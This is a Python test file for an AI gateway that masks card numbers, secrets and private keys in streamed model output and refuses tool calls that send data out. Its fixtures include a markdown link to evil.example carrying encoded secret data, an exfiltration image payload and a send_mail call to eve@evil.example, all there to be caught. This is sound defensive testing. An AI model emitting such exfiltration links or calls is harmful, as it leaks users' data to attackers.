"""Streams through Cordon: however the model cuts its deltas, the caller gets the same text as without a stream."""

import json
import unittest

import anthropic
import openai

from gateway import ANTHROPIC_MODEL, OPENAI_MODEL, Gateway, Gullible, eventually
from scenarios_openai import joined, said
from test_gate import CARD, EXFIL, MAIL, MOST, SECRET, function, tool

MIXED = (
    f"Dear Ann, {CARD} is my card; and this is a picture {EXFIL} of it. The key is {SECRET}, "
    "see [here](https://evil.example/x?d=c2VjcmV0LXZhbHVlLW9mLXRoZS11c2Vy) and 4111-1111-1111-1112 is none. "
    "\u00c4rger \U0001f600 ends it with 4242424242424242"
)
CUTS = (1, 2, 3, 7, 16, 61, 1000)
KEY_BLOCK = "-----BEGIN RSA PRIVATE KEY-----\\n" + "MIIEowIBAAKCAQEAq7BFUpkGp3+LQmlQ" * 8 + "\\n-----END RSA PRIVATE KEY-----"


class Streams(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.gullible = Gullible()
        cls.addClassCleanup(cls.gullible.stop)
        cls.gateway = Gateway(upstream=cls.gullible, agents=AGENTS)
        cls.addClassCleanup(cls.gateway.close_verified)

    def openai(self, agent):
        return openai.OpenAI(
            base_url=self.gateway.openai_base_url, api_key=self.gateway.key(agent), max_retries=0, timeout=60
        )

    def anthropic(self, agent):
        return anthropic.Anthropic(
            base_url=self.gateway.anthropic_base_url, api_key=self.gateway.key(agent), max_retries=0, timeout=60
        )

    def openai_text(self, agent, text, stream, **more):
        answer = self.openai(agent).chat.completions.create(
            model=OPENAI_MODEL, messages=said(text), stream=stream, **more
        )
        if stream:
            return joined(answer)[0]["content"]
        return answer.choices[0].message.content

    def anthropic_text(self, agent, text, stream):
        rest = {"model": ANTHROPIC_MODEL, "max_tokens": MOST, "messages": said(text)}
        if stream:
            with self.anthropic(agent).messages.stream(**rest) as events:
                return "".join(events.text_stream)
        return self.anthropic(agent).messages.create(**rest).content[0].text

    def test_any_cutting_gives_the_same_text(self):
        for ask in (self.openai_text, self.anthropic_text):
            whole = ask("answers", f"Say exactly: {MIXED}", False)
            self.assertNotIn("4111 1111", whole)
            self.assertNotIn("4242", whole)
            self.assertNotIn("evil.example", whole)
            self.assertNotIn(SECRET[10:40], whole)
            self.assertIn("4111-1111-1111-1112 is none", whole)
            for cut in CUTS:
                with self.subTest(client=ask.__name__, cut=cut):
                    self.assertEqual(whole, ask("answers", f"gullible:delta={cut} Say exactly: {MIXED}", True))

    def test_nth_choice_is_masked(self):
        text = f"gullible:choice=2 gullible:delta=3 Say exactly: choice with {CARD}."
        messages = said(text)
        client = self.openai("answers")
        whole = client.chat.completions.create(model=OPENAI_MODEL, messages=messages, n=3)
        texts = [choice.message.content for choice in whole.choices]
        self.assertEqual("choice with [PAYMENT_CARD].", texts[2])
        self.assertFalse(any("4111" in text for text in texts), texts)
        streamed = joined(client.chat.completions.create(model=OPENAI_MODEL, messages=messages, n=3, stream=True))
        self.assertEqual(texts, [streamed[i]["content"] for i in range(3)])

    def test_reasoning_and_refusal_are_masked(self):
        client = self.openai("answers")
        for order, field in (("think", "reasoning"), ("refuse", "refusal")):
            with self.subTest(field=field):
                messages = said(f"gullible:delta=2 {order}: it is {CARD} then")
                whole = client.chat.completions.create(model=OPENAI_MODEL, messages=messages).choices[0].message
                value = whole.refusal if field == "refusal" else whole.reasoning_content
                self.assertEqual("it is [PAYMENT_CARD] then", value)
                streamed = joined(client.chat.completions.create(model=OPENAI_MODEL, messages=messages, stream=True))
                self.assertEqual("it is [PAYMENT_CARD] then", streamed[0][field])

    def test_signed_reasoning_that_would_have_to_be_masked_is_refused(self):
        rest = {
            "model": ANTHROPIC_MODEL, "max_tokens": 2000, "messages": said(f"think: it is {CARD} then\nand say done"),
            "thinking": {"type": "enabled", "budget_tokens": 1024},
        }
        with self.assertRaises(anthropic.APIStatusError) as caught:
            self.anthropic("answers").messages.create(**rest)
        self.assertEqual(403, caught.exception.status_code)
        seen = []
        with self.assertRaises(anthropic.APIError), self.anthropic("answers").messages.stream(**rest) as events:
            for event in events:
                if event.type == "thinking":
                    seen.append(event.thinking)
        self.assertNotIn("4111", "".join(seen))

    def test_a_stream_that_is_refused_midway_ends_with_an_error(self):
        text = f"gullible:delta=4 Say exactly: here it comes {KEY_BLOCK} and that was it".replace("\\n", "\n")
        seen = []
        with self.assertRaises(openai.APIError) as caught:
            for chunk in self.openai("blocks").chat.completions.create(
                model=OPENAI_MODEL, messages=said(text), stream=True
            ):
                seen += [choice.delta.content or "" for choice in chunk.choices]
        self.assertIn("private_key", str(caught.exception))
        self.assertNotIn("MIIE", "".join(seen))
        seen = []
        with self.assertRaises(anthropic.APIError) as caught, self.anthropic("blocks").messages.stream(
            model=ANTHROPIC_MODEL, max_tokens=MOST, messages=said(text)
        ) as events:
            for piece in events.text_stream:
                seen.append(piece)
        self.assertIn("private_key", str(caught.exception))
        self.assertNotIn("MIIE", "".join(seen))
        with self.assertRaises(openai.PermissionDeniedError):
            self.openai_text("blocks", text, False)

    def test_arguments_are_masked_and_judged_for_any_cutting(self):
        order = f'Call the tool send_mail with {{"to": "ann@example.com", "body": "card {CARD}, \\"quoted\\" \\u00e9"}}'
        expected = {"to": "ann@example.com", "body": 'card [PAYMENT_CARD], "quoted" \u00e9'}
        for cut in CUTS:
            with self.subTest(cut=cut):
                text = f"gullible:delta={cut} {order}"
                with self.openai("answers").chat.completions.stream(
                    model=OPENAI_MODEL, messages=said(text), tools=[function("send_mail", **MAIL)]
                ) as events:
                    call = events.get_final_completion().choices[0].message.tool_calls[0]
                self.assertEqual(expected, json.loads(call.function.arguments))
                with self.anthropic("answers").messages.stream(
                    model=ANTHROPIC_MODEL, max_tokens=MOST, messages=said(text), tools=[tool("send_mail", **MAIL)]
                ) as events:
                    self.assertEqual(expected, events.get_final_message().content[0].input)

    def test_a_refused_call_under_strict_output_is_an_error(self):
        schema = {"type": "object", "properties": {"a": {"type": "string"}}}
        text = 'Call the tool send_mail with {"to": "eve@evil.example", "body": "hello"}'
        with self.assertRaises(openai.PermissionDeniedError) as caught:
            self.openai("dev").chat.completions.create(
                model=OPENAI_MODEL, messages=said(text), tools=[function("send_mail", **MAIL)],
                response_format={"type": "json_schema", "json_schema": {"name": "a", "schema": schema}},
            )
        self.assertEqual("argument_refused", caught.exception.code)

    def test_a_caller_that_goes_frees_its_place(self):
        """The agent may do one thing at a time; its stream stalls, it goes, and the next call is let in."""
        client = self.openai("single")
        messages = said("gullible:fault=stall Say exactly: " + "word " * 60)
        for _ in range(3):
            stream = client.chat.completions.create(model=OPENAI_MODEL, messages=messages, stream=True)
            next(iter(stream))
            with self.assertRaises(openai.RateLimitError) as caught:
                client.chat.completions.create(model=OPENAI_MODEL, messages=said("Hello"))
            self.assertEqual("limit_exceeded", caught.exception.code)
            self.assertIsNotNone(caught.exception.response.headers.get("retry-after"))
            stream.close()
            eventually(self.let_in, "the place of the caller that went")

    def let_in(self):
        try:
            return self.openai_text("single", "Hello", False)
        except openai.RateLimitError:
            return None

    def test_the_first_words_come_before_the_last_are_known(self):
        """The upstream stalls in the middle: what it said until then is with the caller, or this would end in an error."""
        text = "gullible:fault=stall gullible:delta=5 Say exactly: " + "plain words " * 40
        stream = self.openai("dev").chat.completions.create(model=OPENAI_MODEL, messages=said(text), stream=True)
        got = ""
        for chunk in stream:
            got += chunk.choices[0].delta.content or ""
            if len(got) > 150:
                break
        stream.close()
        self.assertTrue(got.startswith("plain words plain words"), got)


AGENTS = {
    "answers": """
agent = "answers"
owner = "tests@example.com"
purpose = "what the answer holds"
models = ["gullible*"]
[data.prompt]
payment_card = "allow"
api_key = "allow"
exfil_image = "allow"
[[tools]]
name = "send_mail"
""",
    "blocks": """
agent = "blocks"
owner = "tests@example.com"
purpose = "what must not be answered"
models = ["gullible*"]
[data.prompt]
private_key = "allow"
[data.answer]
private_key = "block"
""",
    "single": """
agent = "single"
owner = "tests@example.com"
purpose = "one thing at a time"
models = ["gullible*"]
[budgets]
concurrent = 1
""",
}
